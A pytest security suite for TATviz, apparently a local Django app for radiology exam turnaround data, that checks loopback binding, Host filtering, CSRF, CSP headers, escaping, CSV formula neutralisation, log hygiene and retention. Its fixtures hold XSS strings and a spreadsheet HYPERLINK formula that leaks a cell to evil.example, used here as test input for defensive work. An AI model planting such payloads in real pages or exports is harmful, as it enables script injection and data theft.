"""What TATviz promises about patient data and who can reach it (SECURITY.md).

Loopback only, loopback Host names only, CSRF on every unsafe method,
security headers on every response, data escaped in every page, formulas
neutralised in every CSV download, private files, no exam data in the log,
deletion and retention that remove files, and the one-time-token mode.
URLs are discovered from the URLconf, so new views are covered unasked.
"""

import base64
import contextlib
import csv
import datetime as dt
import hashlib
import io
import json
import os
import re
import socket
import sqlite3
import stat
import threading
import time
import uuid
from pathlib import Path

import pytest
from django.conf import settings
from django.templatetags.static import static
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.urls.converters import IntConverter, UUIDConverter

from exams import access, housekeeping, report, store
from exams.analysis import export
from exams.middleware import CONTENT_SECURITY_POLICY
from exams.models import Dataset, SavedView
from scripts import smoke_exe
from tatviz import paths
from tatviz.settings import _load_secret_key
from tests.test_bad_inputs import (
    GOOD_CSV,
    RunningApp,
    launch_apps,
    launcher_argv,
    multipart,
)

SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FILE_PAYLOAD = "'><svg onload=alert(1)>.csv"
# Raw markup that must never reach a page unescaped.
RAW_MARKUP = ("<script>alert(1)", "<img src=x", "<svg onload")
PHYSICIANS = (SCRIPT, FORMULA, "-2+3 MD", "@SUM(A1)", "DOE, JANE MD")
EXAM_NAMES = (BREAKOUT, "+SUM(1,2)", "CT HEAD WO", "XR CHEST 2V")
PRIORITIES = ("STAT", "@cmd", "Routine")
CLASSES = ("ED", "-1+1", "Inpatient")
DAYS = 140  # 20 weeks: enough history for the forecast
launch = pytest.fixture(launch_apps)


def accession(i: int) -> str:
    return f"SECRET{i:05d}"


def payload_export() -> bytes:
    """Two exams a day for 20 weeks; names carry markup and formulas.

    SECRET00000 is signed 20 minutes before it was completed (a negative
    interval) and SECRET00001 is pending.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(
        ["Accession", "Exam Name", "Modality", "Priority", "Patient Class"]
        + ["Ordering Physician", "Order Time", "Complete Time", "Final Time"]
    )
    start = dt.datetime(2025, 1, 6, 8, 0)
    for i in range(DAYS * 2):
        ordered = start + dt.timedelta(days=i // 2, hours=(i % 2) * 9)
        completed = ordered + dt.timedelta(minutes=30 + i % 50)
        final = completed + dt.timedelta(minutes=15 + (i * 7) % 300)
        if i == 0:
            final = completed - dt.timedelta(minutes=20)
        stamp = "%m/%d/%Y %H:%M"
        writer.writerow(
            [
                accession(i),
                EXAM_NAMES[i % len(EXAM_NAMES)],
                ("CT", "XR", "MR")[i % 3],
                PRIORITIES[i % len(PRIORITIES)],
                CLASSES[i % len(CLASSES)],
                PHYSICIANS[i % len(PHYSICIANS)],
                ordered.strftime(stamp),
                completed.strftime(stamp),
                "" if i == 1 else final.strftime(stamp),
            ]
        )
    return out.getvalue().encode("utf-8")


PAYLOAD = payload_export()


def upload(client: Client, content: bytes, name: str) -> dict:
    body, content_type = multipart([(name, content)])
    response = client.generic("POST", "/api/datasets", body, content_type=content_type)
    assert response.status_code == 201, response.content[:500]
    return response.json()


@pytest.fixture
def payload(db):
    """A client whose current data set is the payload export."""
    client = Client(raise_request_exception=False)
    summary = upload(client, PAYLOAD, FILE_PAYLOAD)
    view = SavedView.objects.create(name=SCRIPT, query="split=physician")
    return client, summary, view


# ---- the URLconf, walked -------------------------------------------------------------


def url_patterns(patterns=None):
    """Yield every URLPattern of the project, includes followed."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            yield from url_patterns(pattern.url_patterns)
        elif isinstance(pattern, URLPattern):
            yield pattern


def concrete_url(pattern: URLPattern, *, dataset_id: str, view_id: int) -> str:
    """Return a path for the pattern, its parameters filled with real values."""
    kwargs = {}
    for name, converter in pattern.pattern.converters.items():
        if isinstance(converter, UUIDConverter):
            kwargs[name] = dataset_id
        elif isinstance(converter, IntConverter):
            kwargs[name] = view_id
        else:
            kwargs[name] = accession(2)
    return reverse(pattern.name, kwargs=kwargs)


def all_urls(dataset_id: str = "", view_id: int = 1) -> list[str]:
    dataset_id = dataset_id or str(uuid.uuid4())
    return [
        concrete_url(p, dataset_id=dataset_id, view_id=view_id) for p in url_patterns()
    ]


# Query strings each GET URL is tried with: splits and groupings that put the
# names in tables and charts, and a bad link that echoes its values.
QUERIES = (
    "",
    "split=physician",
    "split=priority&by=patient_class",
    "by=physician&metric=complete_to_final",
    "by=ordering_physician",
    "by=exam_name&period=week",
    "table=boxes&by=physician",
    f"physician={SCRIPT}&period={BREAKOUT}",
)


def get_everything(client: Client, dataset_id: str, view_id: int, suffix: str = ""):
    """Yield (url, response) for every URL with every query string."""
    for url in all_urls(dataset_id, view_id):
        for query in QUERIES:
            full = f"{url}?{query}{suffix}" if query else f"{url}?{suffix.lstrip('&')}"
            yield full, client.get(full.rstrip("?"))


# ---- listening address and Host ------------------------------------------------------


@pytest.fixture(scope="module")
def running(tmp_path_factory):
    app = RunningApp(tmp_path_factory.mktemp("security-app"))
    yield app
    app.kill()


def listening_addresses(port: int) -> set[str]:
    """Return the local addresses in LISTEN state on ``port`` (Linux /proc)."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(table) as rows:
            next(rows)
            for row in rows:
                local, state = row.split()[1], row.split()[3]
                address, hex_port = local.split(":")
                if state == "0A" and int(hex_port, 16) == port:
                    found.add(address)
    return found


def test_server_listens_on_127_0_0_1_only(running):
    if Path("/proc/net/tcp").exists():
        # 0100007F is 127.0.0.1 in /proc's byte order; no IPv6, no 0.0.0.0.
        assert listening_addresses(running.port) == {"0100007F"}
    addresses = ["127.0.0.2"]
    with contextlib.suppress(OSError):  # a CI host name may not resolve
        addresses.append(socket.gethostbyname(socket.gethostname()))
    for address in addresses:
        if address == "127.0.0.1":
            continue
        with (
            pytest.raises(OSError),
            socket.create_connection((address, running.port), 2),
        ):
            pass


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "127.0.0.1.evil.example",
        "localhost.evil.example:8000",
        "10.0.0.5",
    ],
)
def test_other_host_names_are_refused(db, host):
    """DNS rebinding: a page on evil.example pointed at 127.0.0.1 gets 400."""
    client = Client(HTTP_HOST=host)
    for path in ("/", "/api/datasets", "/dashboard"):
        response = client.get(path)
        assert response.status_code == 400
        assert "only answers on 127.0.0.1 / localhost" in response.content.decode()
    assert client.get("/api/options").json()["error"].startswith("This request")


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8123", "[::1]:8000"])
def test_loopback_host_names_are_served(db, host):
    assert Client(HTTP_HOST=host).get("/healthz").status_code == 200


# ---- CSRF ----------------------------------------------------------------------------


UNSAFE = ("POST", "PUT", "PATCH", "DELETE")
# Views known to change something; discovery must find at least these.
KNOWN_WRITERS = {
    "exams-quit",
    "exams-datasets",
    "exams-dataset-add-files",
    "exams-dataset-mapping",
    "exams-dataset-select",
    "exams-dataset-delete",
    "exams-saved-views",
    "exams-saved-view-delete",
    "exams-settings",
    "exams-upload",
    "exams-sample",
}


def test_every_unsafe_request_without_csrf_token_is_refused(payload):
    _, summary, view = payload
    strict = Client(enforce_csrf_checks=True)
    strict.get("/upload")  # a session and the CSRF cookie, but no token sent
    assert settings.CSRF_COOKIE_NAME in strict.cookies
    checked = 0
    for pattern in url_patterns():
        url = concrete_url(pattern, dataset_id=summary["id"], view_id=view.pk)
        for method in UNSAFE:
            response = strict.generic(method, url, b"{}", "application/json")
            assert response.status_code == 403, (method, url, response.status_code)
            assert b"CSRF token" in response.content
            checked += 1
    assert checked == len(UNSAFE) * len(list(url_patterns()))
    # Nothing changed: the payload is still the only data set.
    assert [str(d.pk) for d in Dataset.objects.all()] == [summary["id"]]


def test_csrf_discovery_finds_every_writing_view(payload):
    """With the token, the views that accept POST/DELETE are the ones we know."""
    _, summary, view = payload
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    client.get("/upload")
    token = client.cookies[settings.CSRF_COOKIE_NAME].value
    writers = set()
    for pattern in url_patterns():
        url = concrete_url(pattern, dataset_id=summary["id"], view_id=view.pk)
        for method in ("POST", "DELETE"):
            response = client.generic(
                method, url, b"{}", "application/json", headers={"X-CSRFToken": token}
            )
            assert response.status_code != 403, (method, url)
            if response.status_code != 405:
                writers.add(pattern.name)
    assert writers >= KNOWN_WRITERS


def test_cross_site_origin_is_refused_even_with_the_token(db):
    client = Client(enforce_csrf_checks=True)
    client.get("/upload")
    token = client.cookies[settings.CSRF_COOKIE_NAME].value
    body, content_type = multipart([("good.csv", GOOD_CSV)])
    response = client.generic(
        "POST",
        "/api/datasets",
        body,
        content_type=content_type,
        headers={"X-CSRFToken": token, "Origin": "http://evil.example"},
    )
    assert response.status_code == 403


def test_cookies_are_app_specific_and_same_site_strict(db):
    response = Client().get("/upload")
    cookie = response.cookies[settings.CSRF_COOKIE_NAME]
    assert settings.CSRF_COOKIE_NAME.startswith("tatviz_")
    assert settings.SESSION_COOKIE_NAME.startswith("tatviz_")
    assert cookie["samesite"] == "Strict"
    assert settings.SESSION_COOKIE_SAMESITE == "Strict"
    assert settings.SESSION_COOKIE_HTTPONLY


# ---- security headers ----------------------------------------------------------------


LOCAL_SOURCES = {"'self'", "'none'", "'unsafe-inline'", "data:", "blob:"}
SCRIPT_HASH = re.compile(r"'sha256-[A-Za-z0-9+/]+=*'")


def csp_directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}


def assert_csp_is_local(policy: str, what: str) -> None:
    """Nothing from another origin; script only from files or by exact hash."""
    directives = csp_directives(policy)
    assert directives["default-src"] in (["'self'"], ["'none'"]), what
    assert directives["frame-ancestors"] == ["'none'"], what
    for sources in directives.values():
        for source in sources:
            assert source in LOCAL_SOURCES or SCRIPT_HASH.fullmatch(source), what
    script = directives.get("script-src", directives["default-src"])
    assert "'unsafe-inline'" not in script and "'unsafe-eval'" not in script, what
    unsafe = [n for n, s in directives.items() if "'unsafe-inline'" in s]
    assert unsafe in ([], ["style-src"]), what  # Plotly sets inline styles


def assert_security_headers(response, what: str) -> None:
    headers = response.headers
    assert headers.get("X-Content-Type-Options") == "nosniff", what
    assert headers.get("X-Frame-Options") == "DENY", what
    assert headers.get("Referrer-Policy") == "same-origin", what
    policy = headers.get("Content-Security-Policy", "")
    assert_csp_is_local(policy, what)
    if "attachment" not in headers.get("Content-Disposition", ""):
        # A downloaded report carries a stricter policy of its own.
        assert policy == CONTENT_SECURITY_POLICY, what


def test_content_security_policy_allows_only_this_origin():
    assert_csp_is_local(CONTENT_SECURITY_POLICY, "the app's policy")
    directives = csp_directives(CONTENT_SECURITY_POLICY)
    assert directives["default-src"] == ["'self'"]
    assert directives["script-src"] == ["'self'"]
    assert directives["connect-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]


CHART_SCRIPTS = ("exams/js/dashboard.js", "exams/insights.js")


def served_text(client, name: str) -> str:
    response = client.get(static(name))
    assert response.status_code == 200, name
    return b"".join(response.streaming_content).decode("utf-8")


def test_charts_cannot_be_shared_to_plotlys_cloud(db):
    """Every chart is drawn with the one config, which turns cloud sharing off."""
    client = Client()
    common = served_text(client, "exams/js/common.js")
    config = re.search(r"function plotConfig\(filename\) \{(.*?)\n  \}", common, re.S)
    for js in (config.group(1), report.INIT_JS):
        assert "showSendToCloud: false" in js
        assert 'plotlyServerURL: ""' in js
        assert '"sendDataToCloud"' in js and '"sendChartToCloud"' in js
    for name in CHART_SCRIPTS:
        script = served_text(client, name)
        assert "const PLOT_CONFIG = window.TATviz.plotConfig(" in script, name
        calls = re.findall(r"Plotly\.(?:newPlot|react)\(([^;]*?)\)", script)
        assert calls and all(c.endswith(", PLOT_CONFIG") for c in calls), name
    static_dir = Path(__file__).resolve().parents[1] / "static" / "exams"
    drawing = {
        str(p.relative_to(static_dir.parent))
        for p in static_dir.rglob("*.js")
        if "Plotly." in p.read_text(encoding="utf-8")
    }
    assert drawing == set(CHART_SCRIPTS)


def test_every_response_carries_the_security_headers(payload, monkeypatch):
    client, summary, view = payload
    seen = 0
    for url, response in get_everything(client, summary["id"], view.pk):
        assert_security_headers(response, url)
        seen += 1
    script = client.get(static("exams/js/common.js"))
    assert script.status_code == 200
    others = {
        "static file": script,
        "404": client.get("/no/such/page"),
        "405": client.get("/api/quit"),
        "400 bad host": Client(HTTP_HOST="evil.example").get("/"),
        "403 csrf": Client(enforce_csrf_checks=True).post("/api/datasets"),
    }
    monkeypatch.setattr("exams.analysis.options", lambda *a, **k: 1 / 0, raising=True)
    others["500"] = client.get("/api/options")
    assert others["500"].status_code == 500
    for what, response in others.items():
        assert_security_headers(response, what)
    assert seen > 100


def test_pages_and_answers_are_kept_out_of_the_browser_cache(payload):
    client, _, _ = payload
    for path in ("/dashboard", "/api/exams", "/api/exams?format=csv", "/exams"):
        assert client.get(path).headers["Cache-Control"] == "no-store", path
    # Static files keep their long cache lifetime.
    script = client.get(static("exams/js/common.js"))
    assert script.status_code == 200
    assert "no-store" not in script.headers.get("Cache-Control", "")


# ---- escaping ------------------------------------------------------------------------


SCRIPT_TAG = re.compile(r"<script\b([^>]*)>(.*?)</script>", re.IGNORECASE | re.DOTALL)


def assert_scripts_allowed_by_csp(text: str, policy: str, what: str) -> None:
    """Every script is a file, a JSON data block, or inline with its exact hash."""
    for attributes, content in SCRIPT_TAG.findall(text):
        if "src=" in attributes or "application/json" in attributes:
            continue
        digest = hashlib.sha256(content.encode("utf-8")).digest()
        source = f"'sha256-{base64.b64encode(digest).decode('ascii')}'"
        assert source in policy.replace(";", " ").split(), what


def test_data_values_are_escaped_in_every_page_and_json_is_json(payload):
    client, summary, view = payload
    pages = answers = 0
    escaped_seen = set()
    for url, response in get_everything(client, summary["id"], view.pk):
        kind = response.headers.get("Content-Type", "")
        body = response.content
        if kind.startswith("text/html"):
            pages += 1
            text = body.decode()
            for raw in RAW_MARKUP:
                assert raw not in text, (url, raw)
            policy = response.headers["Content-Security-Policy"]
            assert_scripts_allowed_by_csp(text, policy, url)
            if "&lt;script&gt;alert(1)&lt;/script&gt;" in text:
                escaped_seen.add("html")
            if "\\u003Cscript\\u003Ealert(1)" in text:
                escaped_seen.add("json_script")
        elif kind.startswith("application/json"):
            answers += 1
            parsed = json.loads(body)
            if url.startswith("/dashboard/data") and response.status_code == 200:
                for fragment in (parsed["top"], parsed["bottom"]):
                    for raw in RAW_MARKUP:
                        assert raw not in fragment, url
    assert pages > 20 and answers > 50
    # The payload really was on the pages: escaped as text and in chart data.
    assert escaped_seen == {"html", "json_script"}


def test_the_file_name_is_escaped_where_it_is_shown(payload):
    client, summary, _ = payload
    assert summary["filename"] == FILE_PAYLOAD
    for path in ("/data", "/dashboard", "/upload?loaded=1"):
        text = client.get(path).content.decode()
        assert "<svg onload" not in text
        assert "&lt;svg onload=alert(1)&gt;" in text, path


# ---- CSV downloads -------------------------------------------------------------------


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Every CSV download the app offers; discovery must find at least these.
KNOWN_CSV = {
    "/api/series",
    "/api/summary",
    "/api/exams",
    "/exams",
    "/api/distribution",
    "/api/heatmap",
    "/api/compare",
    "/api/overview",
    "/api/pareto",
    "/api/top_exams",
    "/api/pending",
    "/api/forecast",
}


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("SMITH", "SMITH"),
        (-20.0, -20.0),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralize_cells(value, written):
    assert export.neutralize(value) == written


def test_neutralize_text_columns_plain_and_categorical():
    import pandas as pd

    values = ["=cmd", "\tx", "\ry", "-1+1", "ok", None]
    expected = ["'=cmd", "'\tx", "'\ry", "'-1+1", "ok", None]
    plain = export.neutralize_text(pd.Series(values, dtype="string"))
    assert [None if pd.isna(v) else v for v in plain] == expected
    categorical = export.neutralize_text(pd.Series(values, dtype="category"))
    assert [None if pd.isna(v) else v for v in categorical] == expected


def test_every_csv_download_neutralises_formulas(payload):
    client, summary, view = payload
    found, cells_checked = set(), 0
    payload_cells = set()
    negative_numbers = 0
    for url, response in get_everything(
        client, summary["id"], view.pk, suffix="&format=csv"
    ):
        if not response.headers.get("Content-Type", "").startswith("text/csv"):
            continue
        found.add(url.split("?")[0])
        text = response.content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                cells_checked += 1
                if cell.startswith(FORMULA_STARTS):
                    # Only a number may start with - or +; text gets a '.
                    assert is_number(cell), (url, cell)
                    negative_numbers += cell.startswith("-")
                if cell in ("'" + FORMULA, "'+SUM(1,2)", "'-2+3 MD", "'@SUM(A1)"):
                    payload_cells.add(cell)
    assert found >= KNOWN_CSV
    assert payload_cells == {"'" + FORMULA, "'+SUM(1,2)", "'-2+3 MD", "'@SUM(A1)"}
    # SECRET00000's negative interval stays a number.
    assert negative_numbers > 0
    assert cells_checked > 1000


# ---- files on disk -------------------------------------------------------------------


def test_secret_key_and_data_dir_are_private(tmp_path):
    if os.name != "posix":
        return  # Windows: the per-user folder's ACL protects it.
    folder = tmp_path / "data"
    folder.mkdir(mode=0o755)
    paths.ensure_data_dir(folder)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    key = folder / "secret_key.txt"
    _load_secret_key(key)
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    # And the running configuration's own.
    assert stat.S_IMODE(Path(settings.DATA_DIR).stat().st_mode) == 0o700
    own_key = Path(settings.DATA_DIR) / "secret_key.txt"
    assert stat.S_IMODE(own_key.stat().st_mode) == 0o600


def test_everything_writable_is_inside_the_data_dir():
    data = Path(settings.DATA_DIR)
    for value in (
        settings.UPLOAD_DIR,
        settings.CACHE_DIR,
        settings.FILE_UPLOAD_TEMP_DIR,
        settings.LOGGING["handlers"]["file"]["filename"],
    ):
        assert Path(value).resolve().is_relative_to(data.resolve()), value


def files_holding(needle: bytes) -> list[Path]:
    """Return the saved exports, caches and spills that contain ``needle``."""
    hits = []
    for folder in (settings.UPLOAD_DIR, settings.CACHE_DIR):
        for path in Path(folder).rglob("*"):
            if path.is_file() and needle in path.read_bytes():
                hits.append(path)
    return hits


@pytest.fixture
def own_folders(settings, tmp_path):
    """Empty upload and cache folders for this test alone."""
    for name in ("UPLOAD_DIR", "CACHE_DIR"):
        folder = tmp_path / name.lower()
        folder.mkdir()
        setattr(settings, name, folder)


def test_deleting_a_data_set_removes_its_files(own_folders, payload):
    client, summary, _ = payload
    dataset = store.get_dataset(summary["id"])
    files = [Path(settings.UPLOAD_DIR) / f.stored_name for f in dataset.files.all()]
    cache = Path(settings.CACHE_DIR) / dataset.cache_name
    assert all(p.exists() for p in [*files, cache])
    assert files_holding(accession(7).encode())

    assert client.delete(f"/api/datasets/{summary['id']}").status_code == 200

    assert not any(p.exists() for p in [*files, cache])
    assert files_holding(accession(7).encode()) == []
    assert store._frames.get(dataset.pk) is None
    assert client.get("/api/datasets/current").status_code == 404


# ---- the log -------------------------------------------------------------------------


def log_text() -> str:
    path = Path(settings.DATA_DIR) / "tatviz.log"
    return path.read_text(encoding="utf-8") if path.exists() else ""


SECRETS = (accession(3), accession(17), "DOE, JANE", "alert(1)", "HYPERLINK", "CT HEAD")


def test_no_exam_data_in_the_log(payload, monkeypatch):
    client, summary, view = payload
    before = len(log_text())
    for url in (
        f"/api/exams/{accession(3)}",
        f"/api/exams/{accession(17)}?format=csv",
        "/api/series?physician=DOE%2C+JANE+MD&period=never",
        f"/exams?physician={SCRIPT}&sort=bogus",
        "/api/exams?page=0",
        "/dashboard?split=physician",
    ):
        client.get(url)
    # A bug's 500 on a path that names an exam: logged by route, not path.
    monkeypatch.setattr("exams.analysis.exam_detail", lambda *a, **k: 1 / 0)
    assert client.get(f"/api/exams/{accession(17)}").status_code == 500
    client.post("/api/datasets", {"file": io.BytesIO(b"")})
    assert client.delete(f"/api/exams/{accession(17)}").status_code == 405
    Client(HTTP_HOST="evil.example").get(f"/api/exams/{accession(3)}")

    written = log_text()[before:]
    assert "Internal Server Error: /api/exams/<path:accession>" in written
    for secret in SECRETS:
        assert secret not in written


def test_no_exam_data_in_the_running_apps_log(running):
    session = running.session()
    body, content_type = multipart([("payload.csv", PAYLOAD)])
    assert session.request("POST", "/api/datasets", body, content_type).status == 201
    for path in (
        f"/api/exams/{accession(3)}",
        "/api/exams?format=csv",
        "/dashboard?split=physician",
        "/api/series?physician=DOE&period=never",
    ):
        session.get(path)
    written = (running.data_dir / "tatviz.log").read_text(encoding="utf-8")
    assert "Ready at" in written
    for secret in SECRETS:
        assert secret not in written


# ---- retention -----------------------------------------------------------------------


def test_retention_removes_old_data_sets_and_stray_files(db):
    client = Client()
    old = upload(client, GOOD_CSV, "old.csv")
    new = upload(client, GOOD_CSV, "new.csv")
    long_ago = dt.datetime.now() - dt.timedelta(days=40)
    Dataset.objects.filter(pk=old["id"]).update(created_at=long_ago)
    old_files = [
        Path(settings.UPLOAD_DIR) / f.stored_name
        for f in store.get_dataset(old["id"]).files.all()
    ]
    stray_old = Path(settings.UPLOAD_DIR) / f"{uuid.uuid4().hex}.csv"
    stray_new = Path(settings.CACHE_DIR) / f"{uuid.uuid4().hex}.parquet"
    for stray in (stray_old, stray_new):
        stray.write_bytes(b"ACC1001")
    os.utime(stray_old, (long_ago.timestamp(), long_ago.timestamp()))

    assert housekeeping.apply_retention(0) == 0
    assert store.get_dataset(old["id"]) is not None

    assert housekeeping.apply_retention(30) == 1

    assert store.get_dataset(old["id"]) is None
    assert not any(p.exists() for p in old_files)
    assert not stray_old.exists()
    assert stray_new.exists()  # recent: perhaps an upload in progress
    assert store.get_dataset(new["id"]) is not None
    assert client.get("/api/datasets/current").json()["id"] == new["id"]
    stray_new.unlink()


def test_retention_runs_again_every_day(monkeypatch):
    calls = []
    ran = threading.Event()

    def record(days):
        calls.append(days)
        if len(calls) >= 3:
            ran.set()

    monkeypatch.setattr(housekeeping, "apply_retention", record)
    monkeypatch.setattr(housekeeping, "remove_leftovers", lambda: 0)
    monkeypatch.setattr(housekeeping, "RETENTION_INTERVAL", 0.01)
    housekeeping.start_housekeeping(30)
    try:
        assert ran.wait(5)
    finally:
        housekeeping._stop_housekeeping.set()
    time.sleep(0.05)
    housekeeping._stop_housekeeping.clear()
    assert calls[:3] == [30, 30, 30]


def test_launcher_applies_retention_at_start(launch, tmp_path):
    app = launch(tmp_path, env={"TATVIZ_RETENTION_DAYS": "30"})
    try:
        session = app.session()
        body, content_type = multipart([("old.csv", GOOD_CSV)])
        answer = session.request("POST", "/api/datasets", body, content_type)
        assert answer.status == 201
        old_id = answer.json()["id"]
        body, content_type = multipart([("new.csv", GOOD_CSV)])
        new_id = session.request("POST", "/api/datasets", body, content_type).json()[
            "id"
        ]
    finally:
        assert app.stop() == 0
    long_ago = (dt.datetime.now() - dt.timedelta(days=31)).isoformat(" ")
    with sqlite3.connect(tmp_path / "tatviz.sqlite3") as db:
        db.execute(
            "UPDATE exams_dataset SET created_at = ? WHERE id = ?",
            (long_ago, uuid.UUID(old_id).hex),
        )
    uploads_before = len(list((tmp_path / "uploads").iterdir()))

    app = launch(tmp_path, env={"TATVIZ_RETENTION_DAYS": "30"})
    try:
        listing = app.session().get("/api/datasets").json()["datasets"]
        assert [d["id"] for d in listing] == [new_id]
        assert len(list((tmp_path / "uploads").iterdir())) == uploads_before - 1
    finally:
        assert app.stop() == 0


# ---- one-time-token mode -------------------------------------------------------------


@pytest.fixture
def token_mode(db, settings):
    settings.TATVIZ_REQUIRE_TOKEN = True
    yield
    (Path(settings.DATA_DIR) / access.TOKEN_FILE).unlink(missing_ok=True)


def test_token_mode_refuses_without_the_token(token_mode):
    stranger = Client()
    page = stranger.get("/")
    assert page.status_code == 403
    assert "one-time link" in page.content.decode()
    assert stranger.get("/api/options").json()["error"].startswith("This TATviz")
    body, content_type = multipart([("good.csv", GOOD_CSV)])
    assert (
        stranger.generic(
            "POST", "/api/datasets", body, content_type=content_type
        ).status_code
        == 403
    )
    assert stranger.get("/healthz").status_code == 200
    assert_security_headers(page, "token 403")


def test_token_opens_a_session_once(token_mode):
    token = access.issue_token()
    token_file = Path(settings.DATA_DIR) / access.TOKEN_FILE
    if os.name == "posix":
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600

    wrong = Client().get(f"/?token={token[:-2]}xx")
    assert wrong.status_code == 403  # a wrong guess does not burn the token

    browser = Client()
    first = browser.get(f"/dashboard?token={token}&modality=CT&modality=MR")
    assert first.status_code == 302
    assert first["Location"] == "/dashboard?modality=CT&modality=MR"
    assert browser.get("/upload").status_code == 200
    assert browser.get("/api/datasets").status_code == 200
    body, content_type = multipart([("good.csv", GOOD_CSV)])
    uploaded = browser.generic("POST", "/api/datasets", body, content_type=content_type)
    assert uploaded.status_code == 201

    assert not token_file.exists()
    again = Client()
    assert again.get(f"/?token={token}").status_code == 403
    assert again.get("/upload").status_code == 403


def test_launcher_token_mode_end_to_end(launch, tmp_path):
    app = launch(tmp_path, "--require-token")
    try:
        token_file = tmp_path / access.TOKEN_FILE
        assert stat.S_IMODE(token_file.stat().st_mode) == 0o600
        token = token_file.read_text()
        stranger = app.session()
        assert stranger.get("/").status == 403
        assert stranger.get("/healthz").status == 200

        browser = app.session()
        entry = browser.get(f"/?token={token}")
        assert entry.status == 302 and entry.header("Location") == "/"
        assert browser.get("/api/datasets").status == 200
        assert not token_file.exists()
        assert app.session().get(f"/?token={token}").status == 403

        # A second launch answers with the same line and issues a new token.
        second = smoke_exe.App(launcher_argv(tmp_path, "--require-token"))
        try:
            line = second.next_line(60)
            assert line == f"TATviz already running at http://127.0.0.1:{app.port}/"
            assert second.wait() == 0
        finally:
            second.kill()
        late = app.session()
        assert token_file.read_text() != token
        assert late.get(f"/?token={token_file.read_text()}").status == 302
        assert late.get("/api/datasets").status == 200
    finally:
        assert app.stop() == 0
